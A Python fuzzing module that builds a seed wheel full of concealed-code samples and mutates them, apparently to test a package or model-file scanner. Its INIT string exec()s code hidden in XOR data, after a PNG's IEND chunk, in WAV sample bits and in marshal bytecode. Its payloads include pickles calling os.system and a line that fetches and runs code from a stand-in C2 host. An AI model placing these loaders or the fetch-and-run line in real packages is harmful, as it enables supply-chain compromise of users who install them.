"""Carried payloads for the fuzz campaign: pickles, bytecode, native headers, images, WAV.

`carried_seed()` is a wheel whose `__init__` loads each payload (so the loaders' paths and
the readers both run); `mutate_member` rewrites one member of a zip with a mutated payload,
which the archive-level mutators cannot do (a flipped byte inside a deflated member only
fails its CRC). `mutate_payload` knows each format's soft spots: pickle opcodes and
lengths, marshal type bytes and counts, ELF header offsets and counts, chunk lengths.
"""

from __future__ import annotations

import io
import marshal
import pickle
import random
import struct
import zipfile

from carried_fixtures import (
    TENSOR_PICKLE,
    jpeg,
    npy_object,
    pickle_global,
    pickle_memo_indirect,
    pickle_stack_global,
    png,
    pyc,
    torch_zip,
    wav,
    xor,
)
from fuzz.mutate import flip_bytes, splice, truncate

INIT = """\
import os, pickle, ctypes, wave, base64, zlib, marshal, torch
HERE = os.path.dirname(__file__)
A = pickle.load(open(os.path.join(HERE, 'model.pkl'), 'rb'))
B = torch.load(os.path.join(HERE, 'weights.pt'))
C = ctypes.CDLL(os.path.join(HERE, 'lib.so'))
exec(bytes(b ^ 0x21 for b in open(os.path.join(HERE, 'data.bin'), 'rb').read()))
exec(base64.b64decode(open(os.path.join(HERE, 'logo.png'), 'rb').read().split(b'IEND')[1][4:]))
w = wave.open(os.path.join(HERE, 'a.wav'))
exec(bytes(x & 1 for x in w.readframes(-1)))
exec(marshal.loads(open(os.path.join(HERE, 'code.dat'), 'rb').read()[16:]))
"""

ELF_HEADER_FIELDS = [(0x20, 8), (0x28, 8), (0x36, 2), (0x38, 2), (0x3A, 2), (0x3C, 2), (0x3E, 2)]
"""ELF64 phoff, shoff, phentsize, phnum, shentsize, shnum, shstrndx."""


def tiny_elf() -> bytes:
    """A header-only ELF64 with one SHT_DYNSYM and one string table: enough to walk."""
    strtab = b"\x00socket\x00execve\x00"
    syms = b"\x00" * 24 + struct.pack("<IBBHQQ", 1, 0x12, 0, 0, 0, 0) \
        + struct.pack("<IBBHQQ", 8, 0x12, 0, 0, 0, 0)
    shoff = 64 + len(strtab) + len(syms)
    header = bytearray(b"\x7fELF\x02\x01\x01" + b"\x00" * 9)
    header += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 0, shoff, 0, 64, 56, 0, 64, 3, 0)
    sections = b"\x00" * 64
    sections += struct.pack("<IIQQQQIIQQ", 0, 3, 0, 0, 64, len(strtab), 0, 0, 1, 0)
    sections += struct.pack("<IIQQQQIIQQ", 0, 11, 0, 0, 64 + len(strtab), len(syms), 1, 1, 8, 24)
    return bytes(header) + strtab + syms + sections


def payloads() -> dict[str, bytes]:
    code = "import urllib.request\nexec(urllib.request.urlopen('http://c2.invalid').read())\n"
    return {
        "model.pkl": pickle_stack_global("builtins", "exec", "print(1)"),
        "plain.pkl": pickle.dumps({"a": [1, 2.0, "x", b"y"], "b": {3}}, protocol=5),
        "memo.pkl": pickle_memo_indirect("os", "system", "true"),
        "weights.pt": torch_zip(pickle_global("os", "system", "true")),
        "tensors.pt": torch_zip(TENSOR_PICKLE),
        "lut.npy": npy_object(pickle_global("builtins", "eval", "1")),
        "lib.so": tiny_elf(),
        "data.bin": xor(code.encode(), b"!"),
        "logo.png": png(b"aW1wb3J0IG9zCm9zLnN5c3RlbSgndHJ1ZScpCg=="),
        "icon.jpg": jpeg(b"import os\nos.system('true')\n"),
        "a.wav": wav(code.encode(), per_byte=True, seconds=0.3),
        "code.dat": pyc(code),
        "raw.marshal": marshal.dumps(compile(code, "x", "exec")),
        "mod.pyc": pyc(code),
    }


def carried_seed() -> tuple[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("carried/__init__.py", INIT)
        for name, data in payloads().items():
            zf.writestr(f"carried/{name}", data)
        zf.writestr("carried-1.0.dist-info/METADATA",
                    "Metadata-Version: 2.1\nName: carried\nVersion: 1.0\n")
        zf.writestr("carried-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n")
    return "carried-1.0-py3-none-any.whl", out.getvalue()


def _interesting(rng: random.Random, width: int) -> bytes:
    value = rng.choice([0, 1, 2, 0x7F, 0x80, 0xFF, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF,
                        rng.getrandbits(8 * width)])
    return (value & ((1 << (8 * width)) - 1)).to_bytes(width, "little")


def mutate_payload(rng: random.Random, data: bytes) -> bytes:
    """One structure-aware mutation of a carried payload."""
    if not data:
        return bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 64)))
    out = bytearray(data)
    roll = rng.random()
    if data[:4] == b"\x7fELF" and roll < 0.5:
        at, width = rng.choice(ELF_HEADER_FIELDS)
        out[at:at + width] = _interesting(rng, width)
        return bytes(out)
    if data[:1] == b"\x80" and roll < 0.5:
        # pickle: a random opcode, a huge length, or a repeated prefix (deep MARK nesting)
        at = rng.randrange(len(out))
        choice = rng.random()
        if choice < 0.4:
            out[at] = rng.choice(b"\x8c\x93\x94(RqhX\x95ctiIo\x81\x82\x85.0")
        elif choice < 0.7:
            out[at:at] = b"X" + _interesting(rng, 4)
        else:
            out[2:2] = rng.choice([b"(", b"]", b"N"]) * rng.choice([10, 1000, 100_000])
        return bytes(out)
    if data[2:4] == b"\r\n" and roll < 0.5:
        # bytecode: flip a marshal type byte or a count after the 16-byte header
        at = rng.randrange(16, len(out)) if len(out) > 16 else 0
        if rng.random() < 0.5:
            out[at] = rng.choice(b"()[{<>cr)zZaAusti0N") | rng.choice([0, 0x80])
        else:
            out[at:at + 4] = _interesting(rng, 4)
        return bytes(out)
    if data[:8] == b"\x89PNG\r\n\x1a\n" and roll < 0.5:
        at = 8 + 25 * rng.randrange(3)  # IHDR, IDAT or IEND length
        out[at:at + 4] = _interesting(rng, 4)[::-1]
        return bytes(out)
    return rng.choice([flip_bytes, truncate, splice])(rng, data)


def mutate_member(rng: random.Random, data: bytes) -> bytes:
    """Rewrite one carried member of a zip with a mutated payload (CRCs stay valid)."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            members = [(i.filename, zf.read(i)) for i in zf.infolist()[:200]
                       if i.file_size < 4 * 1024 * 1024]
    except (zipfile.BadZipFile, OSError, ValueError, EOFError, NotImplementedError, RuntimeError):
        return flip_bytes(rng, data)
    if not members:
        return data
    at = rng.randrange(len(members))
    name, body = members[at]
    for _ in range(rng.choice([1, 1, 2, 3])):
        body = mutate_payload(rng, body)
    members[at] = (name, body)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, b in members:
            zf.writestr(n, b)
    return out.getvalue()
